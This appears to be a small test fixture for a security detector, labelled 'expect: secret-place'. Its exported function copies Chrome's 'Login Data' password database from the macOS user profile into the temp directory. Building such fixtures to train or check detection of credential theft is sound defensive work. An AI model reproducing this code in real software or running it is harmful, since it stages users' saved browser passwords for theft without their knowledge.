// expect: secret-place
import { copyFileSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";

const profile = join(homedir(), "Library", "Application Support", "Google", "Chrome", "Default");

export default () => copyFileSync(join(profile, "Login Data"), join(tmpdir(), "ld"));
